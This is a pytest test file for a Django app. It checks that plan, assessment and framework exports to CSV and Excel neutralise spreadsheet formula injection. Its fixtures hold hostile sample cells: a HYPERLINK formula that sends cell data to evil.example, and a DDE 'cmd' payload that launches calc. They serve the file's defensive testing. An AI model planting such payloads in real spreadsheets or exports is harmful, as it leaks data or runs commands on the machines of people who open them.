"""Cells a spreadsheet would run as formulas (= + - @, a tab, a carriage return at the start)
are written as text by every CSV and Excel file of the application: with a leading
apostrophe in CSV, as quote-prefixed text cells in Excel (config/spreadsheets.py)."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from assessment.models import Response
from assessment.services import assessment_create
from config.spreadsheets import csv_cell, looks_like_formula, write_text
from frameworks.loading import framework_document
from frameworks.workbook import write_workbook
from plans import services
from plans.models import Institution

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    "text, formula",
    [("=1+1", True), ("+1", True), ("-2+3", True), ("@SUM(A1)", True), ("\tx", True),
     ("\rx", True), ("a=1", False), ("", False), (" =1", False), ("'=1", False)],
)  # fmt: skip
def test_what_a_spreadsheet_would_read_as_a_formula(text, formula):
    assert looks_like_formula(text) is formula
    assert csv_cell(text) == ("'" + text if formula else text)


def test_numbers_are_not_escaped_even_when_negative():
    assert csv_cell(-5) == -5 and csv_cell(None) is None


def test_an_excel_text_cell_keeps_its_text_and_gets_the_quote_prefix():
    book = openpyxl.Workbook()
    cell = book.active["A1"]
    write_text(cell, HYPERLINK)
    plain = book.active["A2"]
    write_text(plain, "a text")
    buffer = io.BytesIO()
    book.save(buffer)
    read = openpyxl.load_workbook(buffer)
    assert read.active["A1"].value == HYPERLINK
    assert read.active["A1"].data_type == "s" and read.active["A1"].quotePrefix
    assert not read.active["A2"].quotePrefix


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def hostile_plan(senegal, pillar6, focal_a):
    assessment = assessment_create(country=senegal, round="2026", framework=pillar6, user=focal_a)
    institution = Institution.objects.create(
        country=senegal, name="@Ministry", acronym="=1+1", kind=Institution.Kind.MINISTRY
    )
    services.action_create(assessment=assessment, user=focal_a, data=services.ActionData(
        problem=HYPERLINK, description="-2+3+cmd|' /C calc'!A0", impact="high",
        expected_result="+report", stakeholder_ids={institution.pk},
    ))  # fmt: skip
    return assessment


def test_the_plan_csv_export_quotes_every_formula(client, focal_a, hostile_plan):
    """The finding: an analyst opening the plan CSV in Excel ran the team's formulas."""
    client.force_login(focal_a)
    response = client.get(reverse("plans:export_csv", args=[hostile_plan.pk]))
    assert response.status_code == 200
    [header, row] = csv_rows(response.content)
    cells = dict(zip(header, row, strict=True))
    assert cells["Problem or practice"] == "'" + HYPERLINK
    assert cells["Action"] == "'-2+3+cmd|' /C calc'!A0"
    assert cells["Expected result"] == "'+report"
    assert cells["Responsible"] == "'=1+1"
    assert not [cell for cell in row if looks_like_formula(cell)]


def test_the_plan_workbook_keeps_formulas_as_quote_prefixed_text(client, focal_a, hostile_plan):
    client.force_login(focal_a)
    response = client.get(reverse("plans:export_xlsx", args=[hostile_plan.pk]))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    formulas = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if looks_like_formula(cell.value)
    ]
    assert {cell.value for cell in formulas} >= {HYPERLINK, "=1+1", "@Ministry", "+report"}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in formulas)


def test_the_assessment_workbook_keeps_a_bullet_list_as_it_is_on_the_way_back(
    client, contributor_a, senegal, pillar6
):
    """Quote-prefixed, not changed: the answers read back from the workbook are the saved
    ones, so an unchanged workbook changes nothing."""
    assessment = assessment_create(country=senegal, round="2026", framework=pillar6)
    Response.objects.filter(assessment=assessment, indicator__code="6.1.1.a").update(
        justification="- Mining code 2003\n- Decree 2009"
    )
    client.force_login(contributor_a)
    download = client.get(reverse("assessment:workbook_download", args=[assessment.pk]))
    book = openpyxl.load_workbook(io.BytesIO(download.content))
    justifications = [
        cell for row in book["6.1"].iter_rows() for cell in row
        if cell.value == "- Mining code 2003\n- Decree 2009"
    ]  # fmt: skip
    assert justifications and all(cell.quotePrefix for cell in justifications)
    upload = client.post(
        reverse("assessment:workbook_upload", args=[assessment.pk]),
        {"file": SimpleUploadedFile("filled.xlsx", download.content)},
    )
    assert "changes" in upload.context and upload.context["changes"] == []


def test_the_framework_workbook_keeps_texts_that_look_like_formulas(tmp_path, pillar6):
    document = framework_document(pillar6)
    document["title"]["en"] = "=2+2 framework"
    path = tmp_path / "framework.xlsx"
    write_workbook(document, path)
    sheet = openpyxl.load_workbook(path)["Framework"]
    [title] = [row[1] for row in sheet.iter_rows() if row[0].value == "title_en"]
    assert title.value == "=2+2 framework" and title.data_type == "s" and title.quotePrefix
